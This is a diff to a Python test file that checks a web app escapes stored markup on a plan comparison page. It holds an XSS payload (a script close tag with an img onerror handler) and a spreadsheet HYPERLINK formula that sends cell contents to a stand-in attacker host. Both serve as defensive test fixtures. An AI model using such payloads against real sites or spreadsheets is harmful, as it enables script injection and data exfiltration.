@@ -20,7 +20,7 @@ from ..planning.helpers import assignment_for
 from .test_csp import inline_scripts
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
-MARKUP = "</script><script>alert(1)</script>"
+MARKUP = "</script><img src=x onerror=a()>"  # fits a code's 32 characters
 
 
 def test_a_stored_code_with_markup_is_data_on_the_compare_page(pw, world, client_for):
@@ -35,8 +35,8 @@ def test_a_stored_code_with_markup_is_data_on_the_compare_page(pw, world, client
     for role in ("admin", "officer", "viewer"):
         html = client_for(role).get(reverse("planning:compare") + f"?a={pa.pk}&b={pb.pk}"
                                     ).content.decode()
-        assert MARKUP not in html and "<script>alert" not in html
-        assert "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown as text
+        assert MARKUP not in html and "<img src=x" not in html
+        assert "&lt;/script&gt;&lt;img src=x onerror=a()&gt;" in html  # shown as text
         assert inline_scripts(html) == []
         data = html.split('id="compare-maps" type="application/json">')[1].split("</script>")[0]
         assert MARKUP in json.loads(data)["moved"]  # the browser reads the same code
